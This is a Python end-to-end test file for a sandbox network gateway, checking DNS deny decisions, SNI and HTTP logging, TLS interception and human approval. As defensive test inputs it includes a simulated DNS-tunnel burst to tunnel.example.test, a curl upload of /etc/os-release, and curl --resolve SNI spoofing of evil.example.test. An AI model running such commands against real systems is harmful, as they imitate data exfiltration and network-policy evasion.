"""Issue 5: DNS as a decision, TLS SNI, HTTP Host, mitmproxy logging."""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from sandbox.internet import DemoInternet
from snitch.core.model import Action, DecisionRequest
from snitch.core.settings import Topology
from tests.e2e.conftest import Result, latest_log
from tests.e2e.test_ask_mode import LiveRun, by_label

PROBE = Path(__file__).with_name("probe.py")


@pytest.fixture(params=list(Topology), ids=str)
def topology(request: pytest.FixtureRequest) -> Topology:
    """The runs here go both ways: routed, and the gateway as a pod's sidecar."""
    return Topology(request.param)


ALLOW_API_DENY_EVIL = """
[[rule]]
action = "allow"
host = "api.example.test"

[[rule]]
action = "deny"
host = "evil.example.test"
"""


def results(result: Result) -> list[dict[str, object]]:
    return [json.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]


def policy(tmp_path: Path, text: str = ALLOW_API_DENY_EVIL) -> str:
    path = tmp_path / "policy.toml"
    path.write_text(text)
    return str(path)


def test_denied_name_gets_nxdomain_and_is_logged(
    run_coderun: Callable[..., Result],
    internet: DemoInternet,
    tmp_path: Path,
) -> None:
    mark = len(internet.logs())
    result = run_coderun(
        "--policy",
        policy(tmp_path),
        "-v",
        f"{PROBE}:/probe.py:ro",
        "--",
        "python3",
        "/probe.py",
        "resolve:evil.example.test",
        "resolve:api.example.test",
    )
    got = results(result)
    assert not got[0]["ok"] and "Name or service not known" in str(got[0]["detail"])
    assert got[1]["ok"] and got[1]["detail"] == internet.ip
    denied = result.dns(qname="evil.example.test", qtype="A")
    assert denied and denied[0].verdict == "deny" and denied[0].rule == "deny evil.example.test/any"
    seen = internet.logs(mark)
    assert "DNS evil.example.test" not in seen
    assert "DNS api.example.test" in seen  # control: the allowed one was looked up upstream


MODES = ("enforce", "ask")


def test_dns_tunnel_burst_leaves_nothing_upstream(
    run_coderun: Callable[..., Result],
    internet: DemoInternet,
    tmp_path: Path,
) -> None:
    labels = [f"c2vjcmv0{n:03d}x.tunnel.example.test" for n in range(40)]
    controls = {mode: f"ctl-{mode}-{secrets.token_hex(3)}.example.test" for mode in MODES}
    mark = len(internet.logs())
    for mode in MODES:
        script = ";".join(f"getent hosts {name}" for name in [*labels, controls[mode]])
        allow = f'[[rule]]\naction = "allow"\nhost = "{controls[mode]}"\n'
        result = run_coderun(
            "--policy",
            policy(tmp_path, allow),
            "--mode",
            mode,
            "--prompt",
            "none",
            "--ask-timeout",
            "2",
            "--",
            "sh",
            "-c",
            script + "; true",
        )
        assert result.status == 0, result.stderr
        lookups = {e.qname for e in result.log if e.kind == "dns"}
        assert set(labels) <= lookups  # every lookup was seen and logged ...
    seen = internet.logs(mark)
    assert "tunnel.example.test" not in seen  # ... and none left the gateway
    for mode in MODES:  # control: the allowed name after them did leave, in each run
        assert f"DNS {controls[mode]} " in seen, (mode, seen)


def test_plain_http_logs_method_url_status_and_sizes(
    run_coderun: Callable[..., Result],
    tmp_path: Path,
) -> None:
    result = run_coderun(
        "--policy",
        policy(tmp_path),
        "--",
        "sh",
        "-c",
        "curl -sS http://api.example.test/bytes/5000 -o /dev/null && "
        "curl -sS -X POST --data-binary @/etc/os-release "
        "http://api.example.test/upload",
    )
    assert result.status == 0, result.stderr
    http = [e for e in result.log if e.kind == "http"]
    get = next(e for e in http if e.method == "GET")
    assert get.url == "http://api.example.test/bytes/5000" and get.status == 200
    assert get.bytes_in == 5000 and get.duration_ms > 0
    post = next(e for e in http if e.method == "POST")
    assert post.url == "http://api.example.test/upload" and post.bytes_out > 100


def test_https_without_interception_logs_sni_and_bytes(
    run_coderun: Callable[..., Result],
    internet: DemoInternet,
    tmp_path: Path,
) -> None:
    ca = tmp_path / "ca.pem"
    ca.write_bytes(internet.ca_pem())
    result = run_coderun(
        "--policy",
        policy(tmp_path),
        "-v",
        f"{ca}:/ca.pem:ro",
        "--",
        "sh",
        "-c",
        "curl -sS --cacert /ca.pem https://api.example.test/bytes/20000 -o /dev/null",
    )
    assert result.status == 0, result.stderr  # the demo server's own certificate: untouched
    tls = [e for e in result.log if e.kind == "tls"]
    assert tls and tls[0].sni == "api.example.test" and tls[0].bytes_in > 20000
    assert tls[0].bytes_out > 100  # at least the ClientHello


def test_intercepted_https_logs_urls_and_the_sandbox_trusts_the_ca(
    run_coderun: Callable[..., Result],
    internet: DemoInternet,
    tmp_path: Path,
) -> None:
    ca = tmp_path / "ca.pem"
    ca.write_bytes(internet.ca_pem())
    result = run_coderun(
        "--policy",
        policy(tmp_path),
        "--intercept-tls",
        "--upstream-ca",
        str(ca),
        "--",
        "sh",
        "-c",
        "curl -sS https://api.example.test/curl && python3 -c "
        "'import urllib.request as u; "
        'print(u.urlopen("https://api.example.test/python").read())\'',
    )
    assert result.status == 0, result.stderr
    assert "hello from api.example.test /curl" in result.stdout
    assert "hello from api.example.test /python" in result.stdout
    urls = {(e.method, e.url, e.status) for e in result.log if e.kind == "http"}
    assert ("GET", "https://api.example.test/curl", 200) in urls
    assert ("GET", "https://api.example.test/python", 200) in urls


def test_bare_ip_is_decided_by_its_sni(
    run_coderun: Callable[..., Result],
    internet: DemoInternet,
    tmp_path: Path,
) -> None:
    ca = tmp_path / "ca.pem"
    ca.write_bytes(internet.ca_pem())
    ip = internet.ip  # no lookup: curl is told the address
    result = run_coderun(
        "--policy",
        policy(tmp_path),
        "-v",
        f"{ca}:/ca.pem:ro",
        "--",
        "sh",
        "-c",
        f"curl -sS -m 5 --cacert /ca.pem --resolve "
        f"api.example.test:443:{ip} https://api.example.test/ok; echo api=$?; "
        f"curl -sS -m 5 --cacert /ca.pem --resolve evil.example.test:443:{ip} "
        "https://evil.example.test/no; echo evil=$?",
    )
    assert "hello from api.example.test /ok" in result.stdout and "api=0" in result.stdout
    assert "evil=0" not in result.stdout and "hello from evil" not in result.stdout
    flows = [e for e in result.log if e.kind == "flow" and e.dst == ip and e.dport == 443]
    # api.example.test resolves to the address: verified, and the flow carries the name.
    # evil.example.test does not: the flow is logged by its address, the name as claimed.
    verdicts = {e.names[0]: (e.verdict, e.rule) for e in flows if e.names}
    assert verdicts == {"api.example.test": ("allow", "allow api.example.test/any")}
    [evil] = [e for e in flows if "claimed SNI evil.example.test, unverified" in e.reason]
    assert (evil.verdict, evil.rule, evil.names) == ("deny", "deny evil.example.test/any", [])


def test_bare_ip_with_an_sni_it_does_not_answer_to_is_held_by_its_address(
    home: Path,
    internet: DemoInternet,
    tags: dict[str, str],
    tmp_path: Path,
    topology: Topology,
) -> None:
    """Issue 12, item 4: the SNI names a host whose address is not this one, so the
    person sees the address with the name marked unverified, and "always" stores the
    address (tests/escape/test_approver_flows.py tries it as an attack)."""
    ca = tmp_path / "ca.pem"
    ca.write_bytes(internet.ca_pem())
    run = LiveRun(
        home,
        internet,
        "--topology",
        str(topology),
        "-v",
        f"{ca}:/ca.pem:ro",
        "--",
        "sh",
        "-c",
        f"curl -sS -m 30 --cacert /ca.pem --resolve evil.example.test:443:{internet.ip}"
        " https://evil.example.test/held; echo evil=$?",
    )
    try:
        item = by_label(run.wait_pending(1), internet.ip)
        assert item.dport == 443 and item.names == [] and item.claimed == "evil.example.test"
        run.decide(DecisionRequest(Action.DENY, pending_id=item.id, lifetime="once"))
        status, _, err = run.finish()
        out = run.stdout
    finally:
        run.kill()
    assert status == 0, err
    flows = [e for e in latest_log(home) if e.kind == "flow" and e.dst == internet.ip]
    assert [(e.verdict, e.names) for e in flows] == [("deny", [])], out
    assert "claimed SNI evil.example.test, unverified" in flows[0].reason


def test_a_person_may_take_sixty_seconds(
    home: Path,
    internet: DemoInternet,
    tags: dict[str, str],
) -> None:
    run = LiveRun(
        home,
        internet,
        "-e",
        "PROBE_TIMEOUT=150",
        "--",
        "python3",
        "/probe.py",
        "http:http://api.example.test/patience",
        timeout=120,
    )
    try:
        item = run.wait_pending(1)[0]
        assert item.label == "api.example.test"
        time.sleep(60)  # the point of the test: a slow human, not a wait for a condition
        run.decide(DecisionRequest(Action.ALLOW, pending_id=item.id, lifetime="once"))
        status, got, err = run.finish(timeout=60)
    finally:
        run.kill()
    assert status == 0, err
    assert got[0]["ok"] and "hello from api.example.test /patience" in str(got[0]["detail"])


def test_a_path_rule_refuses_one_url_of_an_allowed_host(
    run_coderun: Callable[..., Result],
    tmp_path: Path,
) -> None:
    rules = (
        ALLOW_API_DENY_EVIL
        + '\n[[rule]]\naction = "deny"\nhost = "api.example.test"\npath = "/upload"\n'
    )
    result = run_coderun("--policy", policy(tmp_path, rules), "--", "sh", "-c",
                         "curl -sS -o /dev/null -w 'ok=%{http_code}\\n' "
                         "http://api.example.test/ok; "
                         "curl -sS -o /dev/null -w 'up=%{http_code}\\n' -X POST --data x "
                         "http://api.example.test/upload/file")  # fmt: skip
    assert "ok=200" in result.stdout and "up=403" in result.stdout, result.stdout
    statuses = {e.url: e.status for e in result.log if e.kind == "http"}
    assert statuses == {"http://api.example.test/ok": 200,
                        "http://api.example.test/upload/file": 403}  # fmt: skip
